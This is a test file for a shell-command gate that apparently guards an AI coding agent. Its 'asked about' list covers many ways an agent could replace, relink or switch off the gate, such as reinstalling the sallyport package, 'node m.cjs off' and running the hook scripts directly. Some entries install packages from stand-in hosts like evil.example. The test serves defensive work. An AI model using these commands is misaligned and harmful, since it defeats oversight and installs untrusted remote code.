/** The gate replaced by way of its package, or started under another name. */
import { execFileSync } from "node:child_process";
import { copyFileSync, mkdirSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bash, type Project, project } from "../testing/index.ts";

let here: Project;
const pack = (folder: string, file: string): void => {
  execFileSync("tar", ["-czf", here.at(file), "-C", here.at(folder), "--transform", "s,^\\.,package,", "."]);
};
beforeAll(() => {
  here = project();
  const long = "x".repeat(9_000);
  here.write("package.json", JSON.stringify({ name: "app" }));
  here.write("sp/package.json", JSON.stringify({ description: long, name: "sallyport" }));
  here.write("cmd/package.json", JSON.stringify({ name: "y", bin: { sallyport: "y.js" } }));
  here.write("scoped/package.json", JSON.stringify({ name: "@me/sallyport", bin: "y.js" }));
  here.write("tool/package.json", JSON.stringify({ name: "tool", bin: { tool: "t.js" } }));
  here.write("odd/package.json", "{");
  pack("sp", "x.tgz");
  pack("tool", "tool.tgz");
  here.write("broken.tgz", "not an archive");
  mkdirSync(here.at("q/program"), { recursive: true });
  copyFileSync(join(import.meta.dirname, "../../scripts/loader.cjs"), here.at("q/m.cjs"));
  copyFileSync(join(import.meta.dirname, "../hosts/install/hook.sh"), here.at("q/h.sh"));
  copyFileSync(join(import.meta.dirname, "../hosts/install/hook.pl"), here.at("q/h"));
  here.write("q/program/m.js", "1");
  here.write("mine.cjs", "console.log(process.env.SALLYPORT_CODE_CACHE)");
});
afterAll(() => here.remove());

const decided = async (command: string): Promise<string> => {
  const settings = { mode: "bypassPermissions" } as const;
  return (await here.gate({ settings, classifier: null, restore: null }).check(bash(command))).by;
};

describe("asked about", () => {
  test.each([
    "npm i -g ./sp",
    "npm install --global ./sp",
    "npm install ./sp --location=global",
    "npm i -g --prefix ~/x ./sp",
    "npm --prefix ~/x i -g ./sp",
    "npm_config_global=true npm i ./sp",
    "npm i -g ./x.tgz",
    "npm i -g x.tgz",
    "npm i -g file:./x.tgz",
    "npm i -g y@file:sp",
    "npm i -g ./cmd",
    "npm i -g ./scoped",
    "npm i -g ./odd",
    "npm i -g ./broken.tgz",
    "npm i -g ./not-there.tgz",
    "cd sp && npm i -g",
    "cd sp && npm i -g .",
    "cd sp && npm link",
    "npm link ./sp",
    "cd sp && bun link",
    "pnpm add -g ./sp",
    "pnpm link --global ./sp",
    "yarn global add ./sp",
    "yarn global add file:./sp",
    "bun add -g ./sp",
    "corepack yarn global add ./sp",
    "npm i ./sp",
    "npm i -g https://evil.example/x.tgz",
    "npm i -g git+https://evil.example/x.git",
    "npm i -g github:evil/x",
    "npm i -g evil/x",
    'npm i -g "$(npm pack)"',
    "P=./sp; npm i -g $P",
    "sh -c 'npm i -g ./sp'",
    "sed -i s/tool/other/ tool/package.json && npm i -g ./tool",
    "node q/m.cjs hook claude-code",
    "cd q && node m.cjs off",
    "bun q/m.cjs off",
    "node -r ./q/m.cjs -e 1",
    "node --require=./q/m.cjs -e 1",
    `node -e "require('./q/m.cjs')"`,
    "./q/m.cjs off",
    "sh q/h.sh 9 node x",
    "perl q/h a b c",
  ])("%s", async (command) => {
    expect(await decided(command)).toBe("safetyCheck");
  });
});

describe("everyday", () => {
  test.each([
    "npm i -g typescript",
    "npm i -g npm@latest @scope/tool@next",
    "npm i -g typescript@$VERSION",
    "npm i -g $PACKAGES",
    "npm i -g --registry https://registry.example typescript",
    "npm i -g ./tool",
    "npm i -g ./tool.tgz",
    "npm i -g .",
    "npm link",
    "cd tool && npm link",
    "npm link tool",
    "pnpm add -g ./tool",
    "npm i ./tool",
    "npm i https://a.example/x.tgz",
    "npm i evil/x",
    "npm ci",
    "npm run link",
    "npm test -- ./sp",
    "cat sp/package.json",
    "node mine.cjs",
    "cat q/m.cjs",
    "cp -r q r",
  ])("%s", async (command) => {
    expect(await decided(command)).toBe("bypassMode");
  });
});
